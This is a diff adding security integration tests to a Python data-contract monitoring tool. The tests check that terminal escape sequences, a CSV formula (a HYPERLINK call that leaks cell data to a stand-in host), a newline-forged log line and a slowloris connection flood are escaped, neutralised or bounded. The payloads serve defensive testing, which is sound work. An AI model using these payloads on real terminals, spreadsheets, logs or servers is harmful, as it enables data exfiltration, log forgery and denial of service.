@@ -6,37 +6,61 @@ would: the deployable still running, the record dead-lettered (or refused) with 
 still monitored. Findings that depend on a broker's limits run on Apache Kafka.
 
 Shared helpers first; each section below is one slice of the issue (input records: bounds at decode, bounded
-findings and state, time and sequence; contracts and probes).
+findings and state, time and sequence; contracts and probes; outputs and the health port; supervision of
+background tasks).
 """
 
 from __future__ import annotations
 
 import asyncio
 import contextlib
+import csv
+import io
+import json
 import logging
+import os
+import re
+import socket
+import sys
+import threading
 from collections.abc import AsyncIterator, Callable
 from dataclasses import dataclass
-from datetime import UTC, datetime
+from datetime import UTC, datetime, timedelta
 from pathlib import Path
 from typing import Any
 
+import asyncpg
+import httpx
 import orjson
 import pytest
+from aiokafka import AIOKafkaProducer
 from aiokafka.structs import ConsumerRecord
 from click.testing import CliRunner
+from prometheus_client.parser import text_string_to_metric_families
 from pydantic import SecretStr
 
 from floe_stream.cli.main import main as cli
+from floe_stream.printable import printable
+from floe_stream.reporting import store
 from floe_stream.runtime.app import Runnable, build
-from floe_stream.runtime.checks_runtime import retire_contracts
+from floe_stream.runtime.checks_runtime import ChecksRuntime, retire_contracts
 from floe_stream.runtime.embedded import Broker, EmbeddedKafka
+from floe_stream.runtime.health import MAX_CONNECTIONS, REQUEST_DEADLINE_S, HealthServer
 from floe_stream.runtime.kafka import ensure_topics
+from floe_stream.runtime.supervision import TASK_UP_METRIC
 from floe_stream.settings import Settings
-from floe_stream.topics.catalog import TopicKey
+from floe_stream.telemetry.metrics import setup_metrics
+from floe_stream.topics.catalog import TopicKey, topic_name
+from floe_stream.topics.check_result import CheckResult
+from floe_stream.topics.enums import CheckStatus, CheckType
 from floe_stream.topics.materialization import MaterializationEvent
+from floe_stream.topics.violation import encode_violation
 from tests.conftest import REPO, make_settings, wait_for
 from tests.integration.checks_support import CleartextPostgres, HttpTarget, Tarpit, TcpTarget
-from tests.integration.helpers import publish, read_all
+from tests.integration.helpers import floe_env, publish, read_all, start_floe, stop_process
+from tests.integration.receivers import HttpReceiver, publish_violations
+from tests.integration.test_sla_accuracy import AS_OF
+from tests.unit.alert_factory import violation
 
 pytestmark = [pytest.mark.kafka, pytest.mark.postgres]
 
@@ -409,3 +433,273 @@ async def test_one_contracts_tarpit_never_holds_every_ping_slot_and_timeouts_are
     finally:
         await tarpit.stop()
         await healthy.stop()
+
+
+# --- outputs: nothing a producer or contract author writes acts on who reads floe's output -----------------------
+# Text of input (asset ids, owners, contract names, JSON keys) reaches a terminal, a spreadsheet or a log with its
+# control characters escaped and no formula; no webhook secret or URL password reaches the log; the health port
+# (open to the network, no authentication) bounds what slow clients hold.
+
+FLOE = str(Path(sys.executable).parent / "floe")
+# what an attacker puts in an asset id: set the window title, clear the screen, a CR that repaints the line,
+# an OSC 8 hyperlink, a bidi override
+EVIL = "evil\x1b]0;pwned\x07\x1b[2J\rok.orders\x1b]8;;http://x.example/\x07click\x1b]8;;\x07\u202e"
+FORMULA = '=HYPERLINK("http://x.example/?leak="&A1,"details")'
+CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
+
+
+async def _history(dsn: str) -> None:
+    """Results of two hostile asset ids, written as the PostgreSQL sink writes them. ``model_construct``: the
+    rows are what the database holds (from an older version, another writer); the renderers must not trust
+    them whatever the decoder of the day lets through."""
+    rows = []
+    for asset in (EVIL, FORMULA):
+        for i in range(6):
+            rows.append(
+                CheckResult.model_construct(
+                    result_id=f"{asset}/{i}",
+                    asset=asset,
+                    contract_id="-2+3",
+                    contract_version="1.0.0",
+                    check_type=CheckType.FRESHNESS,
+                    status=CheckStatus.FAIL if i % 2 else CheckStatus.PASS,
+                    severity=None,
+                    evaluated_at=AS_OF - timedelta(hours=6 - i),
+                    trigger="event",
+                    metric=0.5,
+                    message="m",
+                )
+            )
+    conn = await asyncpg.connect(dsn)
+    try:
+        async with conn.transaction():
+            await store.write_history(conn, rows, [])
+    finally:
+        await conn.close()
+
+
+async def _floe_cli(dsn: str, *args: str) -> tuple[int, str, str]:
+    env = {**os.environ, "FLOE_DATABASE__DSN": dsn, "COLUMNS": "200"}
+    proc = await asyncio.create_subprocess_exec(
+        FLOE, *args, env=env, stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.PIPE
+    )
+    out, err = await asyncio.wait_for(proc.communicate(), 60)
+    assert proc.returncode is not None
+    return proc.returncode, out.decode(), err.decode()
+
+
+async def test_sla_report_shows_escaped_control_characters_and_csv_cells_start_no_formula(
+    pg_dsn: str,
+) -> None:
+    await _history(pg_dsn)
+    common = ("sla", "report", "--window", "1d", "--as-of", AS_OF.isoformat())
+
+    rc, out, err = await _floe_cli(pg_dsn, *common, "--fail-under", "99")  # the table and the gate's lines
+    assert rc == 3, err
+    assert not CONTROL.search(out + err), (out + err)[:2000]
+    assert "evil\\x1b]0;pwned\\x07" in out and "\\u202e" in out  # shown, escaped, not acted on
+    assert "evil\\x1b]0;pwned" in err  # the gate's list of failing pairs too
+
+    for fmt in ("github", "junit"):  # a CI log is a terminal; XML 1.0 cannot even hold these characters
+        rc, out, err = await _floe_cli(pg_dsn, *common, "--format", fmt)
+        assert rc == 0, err
+        assert not CONTROL.search(out), (fmt, out[:2000])
+
+    rc, out, err = await _floe_cli(pg_dsn, *common, "--format", "csv")
+    assert rc == 0, err
+    rows = list(csv.DictReader(io.StringIO(out)))
+    assert rows
+    for row in rows:
+        for value in row.values():
+            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row
+    assert not CONTROL.search(out)  # a bare CR would split a row for many readers
+    assert {r["asset"] for r in rows} == {"'" + FORMULA, printable(EVIL)}  # the formula kept as text
+    assert {r["contract_id"] for r in rows} == {"'-2+3"}
+
+    rc, out, err = await _floe_cli(pg_dsn, *common, "--format", "json")  # JSON: exact, JSON-escaped
+    assert rc == 0, err
+    assert {a["asset"] for a in json.loads(out)["assets"]} == {EVIL, FORMULA}
+
+
+def test_contracts_lint_and_explain_escape_contract_text(tmp_path: Path) -> None:
+    (tmp_path / "c.odcs.yaml").write_text(
+        'apiVersion: v3.1.0\nkind: DataContract\nid: evil\nname: "n\\e]0;pwned\\a"\nversion: 1.0.0\n'
+        'status: active\nteam: {name: "t\\r\\e[1A", members: [{username: "o\\e[8m", role: owner}]}\n'
+        'schema:\n  - name: t\n    customProperties: [{property: floe, value: {asset: "a\\e[2J.b", '
+        'consumers: ["c\\e]8;;http://x.example/\\ay"]}}]\n'
+        '    properties: [{name: "c\\e[31m", logicalType: integer}]\n'
+        'slaProperties: [{property: latency, value: 1, unit: h, element: "t.c\\e[31m"}, {property: "b\\e]0;s\\a", value: 1}]\n'
+    )
+    runner = CliRunner()
+    for args in (["contracts", "lint", str(tmp_path)], ["contracts", "explain", str(tmp_path)]):
+        res = runner.invoke(cli, args, color=True)  # as on a terminal: click strips nothing
+        assert res.exit_code == 0, res.output
+        assert "evil" in res.output or "warning" in res.output, res.output
+        assert not CONTROL.search(res.output), (args, res.output)
+    assert "c\\x1b]8;;http://x.example/\\x07y" in res.output  # the consumer, shown escaped
+
+
+async def test_alerts_sink_log_has_no_webhook_secret_and_no_forged_line(
+    settings: Settings, tmp_path: Path
+) -> None:
+    async with HttpReceiver() as slack:
+        # the Slack webhook URL is the secret; a URL may also carry a password (userinfo)
+        url = f"http://floe:hunter2@127.0.0.1:{slack.port}/services/T0SECRET/B0SECRET/XyZsecretTOKEN"
+        cfg = tmp_path / "floe.yaml"
+        cfg.write_text(
+            "alerts:\n  policy: {group_wait_s: 0}\n"
+            "  channels: [{name: slack, type: slack, url_env: FLOE_TEST_SLACK_URL}]\n"
+            "  routes: [{channels: [slack]}]\n"
+        )
+        env = floe_env(settings, FLOE_CONFIG_FILE=str(cfg), FLOE_TEST_SLACK_URL=url, FLOE_LOG_LEVEL="INFO")
+        env.pop("FLOE_ALERTS__CONFIG_FILE", None)
+        assert env["FLOE_LOG_FORMAT"] == "text"
+        log = tmp_path / "sink.log"
+        proc = await start_floe(["run", "sink", "alerts"], env, log)
+        try:
+            await publish_violations(settings, [violation("orders.v1")])
+            await wait_for(lambda: slack.requests, timeout=60, interval=0.2)
+
+            # a violation whose data has a key with a newline and a line of its own making: dead-lettered
+            forged = "2026-01-01 00:00:00,000 ERROR floe_stream.sinks.alerts.sink: FORGED"
+            key, value, headers = encode_violation(violation("orders.v2"))
+            doc = json.loads(value)
+            doc["data"] = {f"x\n{forged}": 1, **doc["data"]}
+            producer = AIOKafkaProducer(bootstrap_servers=settings.kafka.bootstrap_servers, linger_ms=0)
+            await producer.start()
+            try:
+                topic = topic_name(settings.kafka.topic_prefix, TopicKey.VIOLATIONS)
+                await producer.send_and_wait(topic, json.dumps(doc).encode(), key=key, headers=headers)
+            finally:
+                await producer.stop()
+            await wait_for(lambda: "dead-lettered" in log.read_text(), timeout=60, interval=0.2)
+        finally:
+            assert await stop_process(proc) == 0, log.read_text()[-3000:]
+    text = log.read_text()
+    for secret in ("hunter2", "T0SECRET", "B0SECRET", "XyZsecretTOKEN"):
+        assert secret not in text, text[-3000:]
+    assert not [ln for ln in text.splitlines() if ln.startswith(forged)], text[-3000:]
+    assert "\\n" + forged in text  # the dead-letter line shows the key, escaped, on its own record's line
+
+
+async def _ok() -> dict[str, bool]:
+    return {"ok": True}
+
+
+def _get(port: int, path: str) -> int:
+    with socket.create_connection(("127.0.0.1", port), timeout=10) as s:
+        s.sendall(f"GET {path} HTTP/1.1\r\nHost: x\r\n\r\n".encode())
+        head = s.recv(200)
+    return int(head.split()[1])
+
+
+def _closed(s: socket.socket) -> bool:
+    """The server ended this connection (FIN or RST)."""
+    try:
+        return s.recv(1, socket.MSG_DONTWAIT) == b""
+    except BlockingIOError:
+        return False
+    except OSError:
+        return True
+
+
+async def test_slowloris_connections_are_capped_and_dropped_by_the_whole_request_deadline() -> None:
+    server = HealthServer("127.0.0.1", 0, liveness=_ok, readiness=_ok)
+    await server.start()
+    socks: list[socket.socket] = []
+    stop = threading.Event()
+
+    def dribble() -> None:  # one header line per second and connection: never a complete request
+        while not stop.wait(1.0):
+            for s in socks:
+                with contextlib.suppress(OSError):
+                    s.send(b"X-Slow: 1\r\n")
+
+    def flood(n: int) -> None:
+        for _ in range(n):
+            s = socket.create_connection(("127.0.0.1", server.port), timeout=5)
+            s.sendall(b"GET /healthz HTTP/1.1\r\n")
+            s.setblocking(False)  # the dribbler never waits on one of them
+            socks.append(s)
+
+    dribbler = threading.Thread(target=dribble, daemon=True)
+    try:
+        await asyncio.to_thread(flood, 500)
+        dribbler.start()
+        # the probe gets its answer during the flood (it evicts the oldest slow client, not the reverse)
+        assert await asyncio.to_thread(_get, server.port, "/healthz") == 200
+
+        async def capped() -> bool:
+            return sum(not _closed(s) for s in socks) <= MAX_CONNECTIONS
+
+        await wait_for(capped, timeout=10)
+
+        async def all_dropped() -> bool:
+            return all(_closed(s) for s in socks)
+
+        # every slow client is gone once the whole-request deadline passed, dribbling or not
+        await wait_for(all_dropped, timeout=3 * REQUEST_DEADLINE_S + 10)
+        assert await asyncio.to_thread(_get, server.port, "/healthz") == 200
+    finally:
+        stop.set()
+        if dribbler.is_alive():
+            await asyncio.to_thread(dribbler.join, 5)
+        for s in socks:
+            s.close()
+        await server.stop()
+
+
+# --- supervision: no background task of a deployable dies unnoticed ------------------------------------------------
+
+
+async def test_a_dead_background_task_fails_healthz_is_logged_once_and_counted(
+    kafka: EmbeddedKafka, pg_dsn: str, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
+) -> None:
+    """The processor's contracts tail meeting an exception outside its per-record containment: /healthz 503
+    naming it (the orchestrator restarts the pod), one log line with the traceback, floe_background_task_up 0."""
+    setup_metrics("floe-test")
+    caplog.set_level(logging.ERROR, logger="floe_stream.runtime.supervision")
+    real = ChecksRuntime._apply_in_order
+
+    def apply_in_order(self: ChecksRuntime, batch: Any) -> None:
+        # stands for any bug the tail meets outside the per-record containment (issue 20: a poison contract
+        # record raised a TypeError there, and the tail died silently while /healthz said 200)
+        if any(r.key == b"poison" for recs in batch.values() for r in recs):
+            raise TypeError("'NoneType' object is not iterable")
+        real(self, batch)
+
+    monkeypatch.setattr(ChecksRuntime, "_apply_in_order", apply_in_order)
+    s = await hostile_settings(kafka, pg_dsn, health_port=0, health_host="127.0.0.1")
+    async with deployed("processor", s) as processor:
+        health = processor.service.health
+        assert health is not None
+        ok = await _http(health.port, "/healthz")
+        assert ok.status_code == 200 and ok.json()["checks"]["background_tasks"] is True
+
+        await publish(s, TopicKey.CONTRACTS, [("poison", b"kind: DataContract\n")])
+
+        async def dead() -> bool:
+            return (await _http(health.port, "/healthz")).status_code == 503
+
+        await wait_for(dead, timeout=20)
+        body = (await _http(health.port, "/healthz")).json()
+        assert body["checks"]["background_tasks"] is False
+        assert body["checks"]["consuming"] is True  # the consume loop itself still turns
+        assert "TypeError" in body["details"]["dead_tasks"]["contracts-tail"]
+        assert processor.running  # alive for its other work until the orchestrator restarts it
+
+        up = {}
+        for fam in text_string_to_metric_families((await _http(health.port, "/metrics")).text):
+            for sample in fam.samples:
+                if sample.name == TASK_UP_METRIC:
+                    up[sample.labels["task"]] = sample.value
+        assert up["contracts-tail"] == 0.0
+        assert up["probe-publisher"] == 1.0  # the others are still up
+
+        died = [r for r in caplog.records if "background task contracts-tail died" in r.getMessage()]
+        assert len(died) == 1 and died[0].exc_info is not None  # once, with its traceback
+
+
+async def _http(port: int, path: str) -> httpx.Response:
+    async with httpx.AsyncClient() as c:
+        return await c.get(f"http://127.0.0.1:{port}{path}", timeout=5)
